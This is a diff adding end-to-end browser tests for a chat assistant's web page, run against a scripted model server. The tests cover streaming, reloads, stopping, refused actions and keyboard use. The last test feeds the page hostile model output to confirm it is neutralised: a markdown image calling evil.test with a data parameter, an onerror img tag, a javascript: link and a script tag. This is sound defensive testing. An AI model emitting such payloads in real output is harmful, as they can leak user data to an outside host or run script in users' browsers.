@@ -1,0 +1,153 @@
+import type { Browser, Page } from "playwright";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { ask, desktop, openBrowser, phone, sticksOut, textOf, visit } from "#/test/support/browse.ts";
+import { type OpenAIServer, type ScriptedReply, startOpenAIServer } from "#/test/support/openai-server.ts";
+import { startProduct, type TestProduct } from "#/test/support/product.ts";
+
+/** The page from end to end, in Chromium, with a model that says exactly what a test needs, as slowly as it needs. */
+let model: OpenAIServer;
+let product: TestProduct;
+let browser: Browser;
+
+beforeAll(async () => {
+  model = await startOpenAIServer([]);
+  const settings = { OPENAI_BASE_URL: model.url, OPENAI_API_KEY: "test", DEPUTY_MODEL_STANDARD: "scripted" };
+  [product, browser] = await Promise.all([startProduct(settings), openBrowser()]);
+});
+afterAll(async () => {
+  await browser?.close();
+  await product?.stop();
+  await model?.close();
+});
+afterEach(() => model.use([]));
+
+const plan = "ACTION: PLAN\nGOAL: Find out\nSTEPS:\n1. Look it up\n---END---\n";
+const delegate = "ACTION: DELEGATE\nAGENT_TYPE: knowledge\nTASK: How are tasks delivered to workers?\n---END---\n";
+const answer = "Tasks are claimed in Postgres [1].\n\nThat is all there is to say about it, said slowly. ";
+const replies: ScriptedReply[] = [
+  { text: plan + delegate },
+  { text: `ACTION: VERIFY\nVERDICT: pass\n---END---\n${answer.repeat(3)}`, chunk: 4, delayMs: 25 },
+];
+
+const answerOf = (page: Page) => page.getByRole("article", { name: "Deputy" }).last();
+const ended = (page: Page) => answerOf(page).getByRole("link", { name: "Transcript" }).waitFor();
+
+describe.each([
+  ["desktop", desktop],
+  ["phone", phone],
+])("the page on a %s", (_name, viewport) => {
+  it("shows a run from the question to the cited answer, also after a reload in the middle of it", async () => {
+    model.use(replies);
+    const { page, complaints, close } = await visit(browser, product.baseUrl, viewport);
+    await ask(page, "How does it work?");
+    expect(await textOf(page.getByRole("article", { name: "You" }))).toContain("How does it work?");
+    await page.getByRole("group", { name: /^knowledge task/i }).waitFor();
+    await answerOf(page).getByText("Tasks are claimed in Postgres").first().waitFor();
+    expect(new URL(page.url()).pathname).toMatch(/^\/c\//);
+
+    await page.reload();
+    await answerOf(page).getByText("Tasks are claimed in Postgres").first().waitFor();
+    await page.getByRole("button", { name: "Stop" }).waitFor();
+    await ended(page);
+    expect(await page.getByRole("article", { name: "You" }).count()).toBe(1);
+    const text = await textOf(answerOf(page));
+    expect(text.match(/That is all there is to say/g)).toHaveLength(3);
+    expect(await page.getByRole("group", { name: /^knowledge task/i }).getAttribute("data-status")).toBe("completed");
+    expect(await textOf(page.getByRole("list", { name: "Phases" }))).toMatch(/Learning/i);
+    expect(await page.getByRole("list", { name: "Sources" }).getByRole("link").count()).toBeGreaterThan(0);
+    expect(await sticksOut(page)).toBe(false);
+
+    await page.reload();
+    await ended(page);
+    expect((await textOf(answerOf(page))).match(/That is all there is to say/g)).toHaveLength(3);
+    expect(complaints).toEqual([]);
+    await close();
+  });
+
+  it("stops a run, keeps what was written, and answers the next question", async () => {
+    model.use([{ text: "I could go on like this for a very long time. ".repeat(40), chunk: 5, delayMs: 40 }]);
+    const { page, complaints, close } = await visit(browser, product.baseUrl, viewport);
+    await ask(page, "Talk to me");
+    await answerOf(page).getByText("I could go on like this").first().waitFor();
+    await page.getByRole("button", { name: "Stop" }).click();
+    await page.getByRole("button", { name: "Send" }).waitFor();
+    await ended(page);
+    expect(await textOf(answerOf(page))).toMatch(/stopped|cancelled/i);
+    expect(await textOf(answerOf(page))).toContain("I could go on like this");
+
+    model.use([{ text: "Yes, I am here." }]);
+    await ask(page, "Are you still there?");
+    await page.getByText("Yes, I am here.").waitFor();
+    expect(await page.getByRole("article", { name: "You" }).count()).toBe(2);
+    expect(complaints).toEqual([]);
+    await close();
+  });
+
+  it("shows a refused action with its reason, and why a run failed, and tries again", async () => {
+    model.use([{ text: delegate }, { text: delegate }, { text: delegate }]);
+    const { page, close } = await visit(browser, product.baseUrl, viewport);
+    await ask(page, "Do it");
+    await answerOf(page)
+      .getByText(/DELEGATE is not allowed in PLANNING/)
+      .first()
+      .waitFor();
+    await answerOf(page)
+      .getByText(/nothing but refused actions/)
+      .first()
+      .waitFor();
+    model.use([{ text: "Now it works." }]);
+    await page
+      .getByRole("button", { name: /try again|retry/i })
+      .first()
+      .click();
+    await page.getByText("Now it works.").waitFor();
+    expect(await page.getByRole("article", { name: "You" }).count()).toBe(1);
+    await close();
+  });
+});
+
+describe("the keyboard alone", () => {
+  it("asks, stops, and asks again", async () => {
+    model.use([{ text: "A long story. ".repeat(100), chunk: 5, delayMs: 40 }]);
+    const { page, close } = await visit(browser, product.baseUrl, desktop);
+    await page.getByRole("textbox", { name: "Message" }).focus();
+    await page.keyboard.type("Tell me a story");
+    await page.keyboard.press("Enter");
+    await answerOf(page).getByText("A long story.").first().waitFor();
+    await page.keyboard.press("Escape");
+    await page.getByRole("button", { name: "Send" }).waitFor();
+    model.use([{ text: "The end." }]);
+    await page.keyboard.type("And then?");
+    await page.keyboard.press("Enter");
+    await page.getByText("The end.").waitFor();
+    await close();
+  });
+});
+
+describe("what a model writes", () => {
+  it("loads nothing from elsewhere and runs nothing in the page", async () => {
+    const hostile = [
+      "![pixel](https://evil.test/x?d=1)",
+      "<img src=https://evil.test/y onerror=alert(1)>",
+      "[click](javascript:alert(1))",
+      "<script>alert(1)</script>",
+      "Safe end.",
+    ].join("\n\n");
+    model.use([{ text: hostile }]);
+    const { page, close } = await visit(browser, product.baseUrl, desktop);
+    const foreign: string[] = [];
+    page.on("request", (request) => {
+      if (!request.url().startsWith(product.baseUrl) && !request.url().startsWith("data:")) foreign.push(request.url());
+    });
+    page.on("dialog", (dialog) => {
+      foreign.push(dialog.message());
+      void dialog.dismiss();
+    });
+    await ask(page, "Be hostile");
+    await page.getByText("Safe end.").waitFor();
+    await ended(page);
+    expect(foreign).toEqual([]);
+    expect(await page.locator("a[href^='javascript:']").count()).toBe(0);
+    await close();
+  });
+});
